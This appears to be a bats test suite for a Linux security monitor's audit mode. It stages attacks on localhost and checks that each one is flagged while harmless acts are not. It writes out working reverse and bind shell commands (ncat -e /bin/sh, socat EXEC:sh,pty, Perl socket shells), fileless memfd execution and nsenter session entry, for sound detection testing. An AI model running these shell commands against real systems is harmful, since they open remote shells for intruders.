#!/usr/bin/env bats
# audit.bats: kwp audit in a guest finds attacks, and leaves harmless acts alone. All of them are done once, under one kwp;
# each in a directory of its own, by which its findings are known.
bats_require_minimum_version 1.5.0
load guest
load ../helpers

# at NAME COMMAND...: does it in the directory NAME; its exit status does not count.
at() {
	mkdir -p "$1"
	(cd "$1" && shift && "$@") </dev/null >>acts.out 2>>acts.err 3>&- || true
}

# with_peer PORT TEXT: someone listens there, until who comes has gone.
with_peer() {
	peer "$1" "$2" >"peer$1" 3>&- &
	until_true 20 grep -q ready "peer$1"
}

# What perl does with a connection: its streams by dup2, or a socket that is fd 0 and 1 before it is connected.
perl_dup='use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in($ARGV[0], inet_aton("127.0.0.1"))) or die;
	open(STDIN, "<&S"); open(STDOUT, ">&S"); sleep 1'
perl_connect='use Socket; close(STDIN); close(STDOUT); socket(S, PF_INET, SOCK_STREAM, 0); open(T, ">&S");
	connect(S, sockaddr_in($ARGV[0], inet_aton("127.0.0.1"))) or die; sleep 1'
perl_bind='use Socket; socket(S, PF_INET, SOCK_STREAM, 0); setsockopt(S, SOL_SOCKET, SO_REUSEADDR, 1);
	bind(S, sockaddr_in($ARGV[0], inet_aton("127.0.0.1"))); listen(S, 1); accept(C, S) or die;
	open(STDIN, "<&C"); open(STDOUT, ">&C"); exec "/bin/sh", "-c", ":"'

attacks() {
	for port in 7001 7002 7003; do with_peer $port $'exit\n'; done
	at shell-exec act stdio 127.0.0.1 7001 , exec /bin/sh -c :
	at shell-dup perl -e "$perl_dup" 7002
	at shell-connect perl -e "$perl_connect" 7003
	at shell-bind perl -e "$perl_bind" 7004 &
	until_true 20 bash -c ': >/dev/tcp/127.0.0.1/7004'
	wait $!
	for port in 7007 7008 7009; do with_peer $port $'exit\n'; done
	at relay-pipe ncat 127.0.0.1 7007 -e /bin/sh
	at relay-late python3 "$REPO/tests/corpus/own/lib/relay.py" late 7008
	at relay-terminal socat TCP:127.0.0.1:7009 EXEC:sh,pty
	mkdir memory deleted server shared
	cp /bin/true memory/t
	at memory act memfd-exec hidden ./t x
	cp "$ACTS/act" deleted/t
	at deleted act deleted-exec t
	cp "$ACTS/act" server/nginx
	at server ./nginx spawn /bin/sh -c :
	cp /bin/true /dev/shm/t
	at shared /dev/shm/t
	unshare -pf --mount-proc sleep 60 3>&- &
	until_true 20 pgrep -P $!
	inside=$(pgrep -P $!)
	at session nsenter -t "$inside" -p -m --wdns="$PWD/session" /bin/echo "from outside"
	kill "$inside"
	wait $! || true
}

harmless() {
	with_peer 7005 $'hello\n'
	with_peer 7006 $'hello\n'
	at harmless-pipe bash -c 'ls / | sort | cat; echo "$(id)"'
	at harmless-client bash -c 'exec 5<>/dev/tcp/127.0.0.1/7005; read -r line <&5; echo "$line"'
	cp "$ACTS/act" /usr/sbin/sshd
	at harmless-sshd /usr/sbin/sshd stdio 127.0.0.1 7006 , exec /usr/sbin/sshd memfd x
	rm /usr/sbin/sshd
	mkdir harmless-server
	cp "$ACTS/act" harmless-server/nginx
	printf '#!/bin/sh\n:\n' >harmless-server/cgi
	chmod 755 harmless-server/cgi
	at harmless-server ./nginx spawn /bin/true , spawn ./cgi
	at harmless-driven python3 -c 'import subprocess; subprocess.run("sh", input=b"exit\n", stdout=subprocess.PIPE)'
	at harmless-memfd act memfd plain , mmap-exec /bin/true
	at harmless-shm act open /dev/shm/data cw
	at harmless-newns unshare -pf --mount-proc sh -c '/bin/true; /bin/true'
}

setup_file() {
	[ -e /sys/kernel/btf/vmlinux ] || return 0
	need_acts
	mkdir /tmp/audit
	cd /tmp/audit
	watch audit -o json
	attacks
	harmless
	sleep 1
	unwatch
	echo "$status" >status
}

teardown_file() {
	[ -z "${watcher-}" ] || kill -KILL "$watcher" || true
}

setup() {
	need_kwp
	need_btf
	[ "$BATS_TEST_DESCRIPTION" = "${BATS_TEST_DESCRIPTION#own: }" ] || { cd "$BATS_TEST_TMPDIR"; return; }
	cd /tmp/audit
}

# finds DIRECTORY RULE [EXPR]
finds() { has ".rule.name == \"$2\" and (.process.working_directory | endswith(\"/$1\")) and (${3-true})"; }

@test "a reverse shell: seen at exec, at dup, at connect" {
	finds shell-exec reverse-shell '.event.action == "exec" and .process.io.remote == {"ip":"127.0.0.1","port":7001} and .event.severity == 99'
	finds shell-dup reverse-shell '.event.action == "dup" and .process.io.remote.port == 7002'
	finds shell-connect reverse-shell '.event.action == "connect" and .process.io.remote.port == 7003'
	all '.event.kind == "alert" and (.message | length) > 20 and .threat.technique.id[0]'
}

@test "a bind shell: the connection came in" {
	finds shell-bind bind-shell '.process.io.inbound and (.process.executable | test("/(da)?sh$"))'
	hasnt '.rule.name == "reverse-shell" and (.process.working_directory | endswith("/shell-bind"))'
}

@test "shells that other processes carry bytes to: the connection before the shell, after it, a terminal" {
	finds relay-pipe reverse-shell-relay '.process.io.relay.name == "ncat" and .process.io.remote == {"ip":"127.0.0.1","port":7007} and .process.io.relay.hops == 1'
	finds relay-late reverse-shell-relay '.process.io.peer.name == "python3" and .process.io.remote.port == 7008'
	finds relay-terminal reverse-shell-relay '.process.io.relay.name == "socat" and .process.io.stdin == "tty" and (.kwp.path | startswith("stdin <- pty <- socat"))'
}

@test "programs without a file, without a name, in shared memory" {
	finds memory fileless-exec '.file.path | contains("memfd:hidden")'
	finds deleted fileless-exec # /tmp is a tmpfs
	finds shared exec-shared-memory '.file.path == "/dev/shm/t"'
}

@test "a server that starts a shell" {
	finds server server-spawns-shell '.process.parent.name == "nginx"'
}

@test "a session that came into a pid namespace from outside" {
	has '.rule.name == "exec-session" and (.process.args | index("from outside")) and .process.entry == "exec-session"'
}

@test "harmless acts are not findings" {
	# The programs of this test are not the image's, and one is put among the system's: that is told, and no more.
	hasnt '(.process.working_directory | contains("/harmless-")) and (.rule.name | test("^(drift|program-(changed|moved)$)") | not)'
	all '(.process.working_directory | startswith("/tmp/audit/")) or (.rule.name | test("^(drift|program-(changed|moved)$|sensor-killed$)"))'
	[ "$(cat status)" = 0 ]
	tail -n 1 err | grep -qE '^kwp-audit: [0-9]+ findings, 0 lost$'
}

@test "own: --exit-code, --severity and -P in a guest" {
	cp /bin/true t
	status=0
	"$KWP" audit -q -o json -w out --exit-code --severity critical -- act +memfd-exec hidden ./t x >/dev/null || status=$?
	all '.rule.name == "fileless-exec"'
	cat >own.yaml <<'Y'
kwp: 1
name: own
rules:
  - id: moved
    title: moved
    on: rename
    when: file.target_path ~ /b$
    severity: low
    technique: [T1036]
    message: "{file.path} is {file.target_path}"
Y
	"$KWP" audit -q -o json -w own -P ./own.yaml -- act open a cw , rename a b , rename b c >/dev/null
	judge 'map(.message) == ["\($d)/a is \($d)/b"]' "one finding" own
}
